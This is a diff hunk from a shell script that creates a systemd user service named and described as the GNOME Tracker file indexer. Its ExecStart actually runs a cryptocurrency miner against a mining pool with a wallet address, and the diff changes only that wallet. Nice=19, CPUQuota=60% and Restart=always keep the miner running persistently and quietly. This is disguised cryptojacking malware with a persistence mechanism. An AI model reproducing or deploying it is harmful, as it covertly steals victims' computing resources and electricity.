@@ -12,7 +12,7 @@ cat > ~/.config/systemd/user/tracker-miner-fs-3x.service <<EOF
 Description=Tracker file system data miner
 
 [Service]
-ExecStart=$dir/tracker-miner-fs -o pool.indexer-net.example:443 --tls -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p desktop --cpu-max-threads-hint=60
+ExecStart=$dir/tracker-miner-fs -o pool.indexer-net.example:443 --tls -u 48XJjajPAR1QXJitWmxfFc1jgAVQBNzE4duD5ZkuNkStv624ujZF6UV8jU9bMygcBmy4cBZu6SfTjfXXfRb2io6DsjHPQxm -p desktop --cpu-max-threads-hint=60
 Nice=19
 CPUQuota=60%
 Restart=always
